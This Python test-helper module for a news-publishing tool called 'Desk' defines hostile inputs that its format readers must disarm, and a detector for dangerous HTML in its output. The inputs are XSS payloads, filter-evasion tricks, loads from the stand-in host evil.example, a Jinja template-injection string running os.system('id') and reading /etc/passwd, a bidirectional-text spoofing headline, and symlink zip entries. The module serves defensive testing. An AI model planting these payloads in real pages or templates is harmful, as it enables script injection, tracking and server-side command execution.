"""What strangers may send, for the tests of formats: files made to hurt, and what to look for in what Desk writes."""

from __future__ import annotations

import io
import json
import re
import stat
from collections.abc import Iterator, Mapping
from html import unescape
from pathlib import Path
from urllib.parse import urlsplit
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from selectolax.lexbor import LexborHTMLParser

from tests.formats.documents import docx as document
from tests.formats.documents import p

EVIL = "evil.example"
"""The host that nothing may ever be fetched from."""
POISON: Mapping[str, str] = {
    "a script": f"<script src='https://{EVIL}/x.js'>alert(1)</script>",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an event handler": "<img src=x onerror=alert(1)><p onclick='alert(1)' onmouseover=alert(2)>Words</p>",
    "a javascript link": "<a href='javascript:alert(1)'>Here</a> [there](javascript:alert(1))",
    "a javascript link in disguise": (
        "<a href='&#106;ava&#x09;script&colon;alert(1)'>Here</a> [x](\x01java\nscript:alert(1))"
    ),
    "a data link": (
        "<a href='data:text/html;base64,PHNjcmlwdD4='>Here</a> [there](data:text/html,<script>alert(1)</script>)"
    ),
    "a vbscript link": "[x](vbscript:msgbox) <a href=vbscript:msgbox>x</a>",
    "a style sheet": f"<style>@import url(https://{EVIL}/x.css); p {{background:url(https://{EVIL}/y)}}</style>",
    "a style": f"<p style='background:url(https://{EVIL}/y);position:fixed;inset:0'>Words</p>",
    "a linked style sheet": f"<link rel=stylesheet href=https://{EVIL}/x.css><link rel=prefetch href=//{EVIL}/y>",
    "an SVG": (
        f"<svg onload=alert(1)><script>alert(1)</script><image href='https://{EVIL}/z.png'/>"
        "<foreignObject><body onload=alert(1)></foreignObject></svg>"
    ),
    "an SVG photo": f"![x](data:image/svg+xml;base64,PHN2Zy8+) ![y](https://{EVIL}/x.svg)",
    "a form": (
        f"<form action=https://{EVIL}/><input name=password autofocus onfocus=alert(1)>"
        "<button formaction=javascript:alert(1)>Go</button></form>"
    ),
    "a frame": f"<iframe src=https://{EVIL}/ srcdoc='<script>alert(1)</script>'></iframe><frame src=//{EVIL}>",
    "an object": f"<object data=https://{EVIL}/x.swf></object><embed src=https://{EVIL}/y><applet code=x></applet>",
    "a refresh": f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'><base href=https://{EVIL}/>",
    "a pixel": f"![](https://{EVIL}/pixel.png) <img src=//{EVIL}/p.gif srcset='https://{EVIL}/q.gif 2x'>",
    "a film": f"<video src=https://{EVIL}/v poster=https://{EVIL}/p autoplay></video><audio src=//{EVIL}/a></audio>",
    "mathematics": (
        "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>"
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"
    ),
    "a template": "{{ cycler.__init__.__globals__.os.system('id') }} {% include '/etc/passwd' %}",
    "a comment that ends a script": "</script><script>alert(1)</script>--><!--<script>",
    "an attribute that ends": "\"><script>alert(1)</script> '><img src=x onerror=alert(1)>",
    "null bytes": "<scr\x00ipt>alert(1)</scr\x00ipt> wo\x00rds",
}
"""Texts that would run or fetch something where they were taken for what they are."""
TROJAN = "Ministers \u202etsiorret\u202c meet \u2066in \u2067Erbil"
"""A headline that reads otherwise than it is: an override, and isolates that nothing closes."""
OURS = "news.example"
"""Where the pages themselves will stand."""
UNSAFE_MARKS = re.compile("[\u202d\u202e\x00-\x08\x0b\x0c\x0e-\x1f]")


def zipped(*entries: tuple[str | ZipInfo, bytes]) -> bytes:
    """A zip of these, in their order, be their names the same."""
    import warnings

    out = io.BytesIO()
    with warnings.catch_warnings(), ZipFile(out, "w", ZIP_DEFLATED) as package:
        warnings.simplefilter("ignore")
        for name, data in entries:
            package.writestr(name, data)
    return out.getvalue()


def a_link(name: str, target: str) -> tuple[ZipInfo, bytes]:
    """An entry that is a symbolic link."""
    entry = ZipInfo(name)
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return entry, target.encode()


def story_json(**fields: object) -> bytes:
    """The heart of a story package."""
    from desk.article import record
    from tests.formats.stories import SORANI

    return json.dumps({"desk": 1, "article": {**record.to_record(SORANI), **fields}}, ensure_ascii=False).encode()


def in_every_reader(text: str) -> Iterator[tuple[str, bytes]]:
    """The text as headline and in the body of a file of every format that Desk reads: names and bytes."""
    flat = " ".join(text.replace("\x00", "").split())
    page = (
        f"<!doctype html><html><head><title>{text}</title></head><body><article><h1>{text}</h1>"
        f"<p>Ministers met in Erbil on Tuesday.</p><p>{text}</p><p>They will meet again.</p></article></body></html>"
    )
    yield "x.html", page.encode()
    yield "x.md", f"---\ntitle: {json.dumps(flat)}\n---\n\nMinisters met.\n\n{text}\n".encode()
    yield "x.txt", f"{flat}\n\nERBIL (DESK) - Ministers met in Erbil on Tuesday.\n\n{text}\n".encode()
    ninjs = {
        "uri": "urn:x:1",
        "headlines": [{"role": "main", "value": text}],
        "bodies": [{"contentType": "text/html", "value": f"<p>Ministers met.</p>{text}<p>Again.</p>"}],
        "associations": [{"name": "main", "type": "picture", "renditions": [{"href": f"https://{EVIL}/p.jpg"}]}],
    }
    yield "x.json", json.dumps(ninjs).encode()
    yield "x.story", zipped(("story.json", story_json(headline=text, body=f"Ministers met.\n\n{text}\n", byline=text)))
    clean = UNSAFE_MARKS.sub("", text)
    yield "x.docx", document(p(clean, style="Title"), p("Ministers met."), p(clean.replace("<", "‹")), p(f"{clean} "))


# what must not be in anything that Desk writes

_LOADING = {
    **dict.fromkeys(("img", "source", "video", "audio", "track", "input"), ("src", "srcset", "poster")),
    "link": ("href",),
}
_FORBIDDEN = "iframe, frame, object, embed, applet, form, input, base, svg script, math, template, noscript"


def dangers_in(html: str) -> list[str]:
    """What in a page runs, loads from elsewhere, submits or leads where no link should."""
    tree = LexborHTMLParser(html)
    found = [f"<{node.tag}>" for node in tree.css(_FORBIDDEN)]
    for node in tree.css("*"):
        found += _dangers_of(node.tag or "", {name: value or "" for name, value in node.attributes.items()})
    found += [f"style: {style.text()[:60]}" for style in tree.css("style") if re.search(r"@import|url\(", style.text())]
    return found


def _dangers_of(tag: str, attributes: Mapping[str, str]) -> Iterator[str]:
    if tag == "script" and attributes.get("type") != "application/ld+json":
        yield f"<script {attributes}>"
    if tag == "meta" and "http-equiv" in attributes and "refresh" in attributes["http-equiv"].lower():
        yield "<meta refresh>"
    for name, value in attributes.items():
        bare = re.sub(r"[\x00-\x20]", "", unescape(value)).lower()
        if name.startswith("on") or (name == "style" and "url(" in bare):
            yield f"{name}={value}"
        if name in ("href", "action", "formaction", "xlink:href") and bare.startswith(
            ("javascript", "vbscript", "data")
        ):
            yield f"{name}={value}"
        loads = name in _LOADING.get(tag, ()) and not (tag == "link" and attributes.get("rel") in _NAMED_ONLY)
        if loads and (
            urlsplit(bare).netloc not in ("", OURS) or bare.startswith(("data:image/svg", "data:text", "javascript"))
        ):
            yield f"<{tag} {name}={value}>"


_NAMED_ONLY = ("canonical", "alternate", "author", "license", "next", "prev")


def texts_in(folder: Path) -> Iterator[tuple[Path, str]]:
    """Every text file in a folder."""
    for path in sorted(folder.rglob("*")):
        if path.is_file() and path.suffix in (".html", ".json", ".css", ".md", ".txt", ".xml"):
            yield path, path.read_text("utf-8")
